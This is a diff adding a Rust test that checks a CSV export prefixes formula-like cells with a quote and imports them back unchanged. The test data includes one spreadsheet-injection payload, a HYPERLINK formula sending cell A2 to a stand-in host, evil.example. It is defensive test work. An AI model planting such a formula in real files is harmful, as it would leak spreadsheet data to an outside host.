@@ -381,6 +381,61 @@ async fn an_export_is_the_view_in_the_import_columns_and_imports_back_as_the_sam
     assert_eq!(export(&copy, "").await.1, all);
 }
 
+/// Text a spreadsheet would run as a formula is exported behind a `'`
+/// (numbers are not: -3 is a number), and imported back as it was.
+#[tokio::test]
+async fn an_export_quotes_formulas_and_imports_them_back_as_they_were() {
+    let app = TestApp::new(api()).await;
+    let formula = "=HYPERLINK(\"https://evil.example/?\"&A2,\"x\")";
+    let names = [formula, "+1", "-2", "@SUM(A1)", "\tTab", "'=quoted", "'tis"];
+    for (n, name) in names.iter().enumerate() {
+        let mut item = row(0);
+        item["name"] = json!(name);
+        item["note"] = json!(format!("-{n}"));
+        item["amount"] = json!(-3.5);
+        item["tags"] = json!(["=1+1"]);
+        let reply = app
+            .call("POST", "/api/items", Some(&app.admin()), Some(item), &[])
+            .await;
+        assert_eq!(reply.status.as_u16(), 201, "{}", reply.text);
+    }
+    let (status, csv) = export(&app, "sort=id").await;
+    assert_eq!(status, 200, "{csv}");
+    let mut reader = csv::Reader::from_reader(csv.as_bytes());
+    let cells: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    let exported: Vec<&str> = cells.iter().map(|row| &row[0]).collect();
+    assert_eq!(
+        exported,
+        [
+            &format!("'{formula}")[..],
+            "'+1",
+            "'-2",
+            "'@SUM(A1)",
+            "'\tTab",
+            "''=quoted",
+            "'tis"
+        ]
+    );
+    for row in &cells {
+        assert_eq!(&row[2], "-3.5", "a number is no formula");
+        assert!(row[7].starts_with("'-"), "{:?}", &row[7]);
+        assert!(
+            row[8].starts_with('['),
+            "JSON that is no formula: {:?}",
+            &row[8]
+        );
+    }
+    let copy = TestApp::new(api()).await;
+    let job = copy.import("items", &csv, false).await;
+    assert_eq!(job.status.as_u16(), 202, "{}", job.text);
+    let done = copy
+        .finished_job("items", job.body["jobId"].as_str().unwrap())
+        .await;
+    assert_eq!(done["successfulRows"], names.len(), "{done}");
+    assert_eq!(rows(&copy).await, rows(&app).await);
+    assert_eq!(export(&copy, "sort=id").await.1, csv);
+}
+
 #[tokio::test]
 async fn exports_at_once_are_bounded_and_a_bad_view_is_a_json_400() {
     let busy = app_with(Limits {
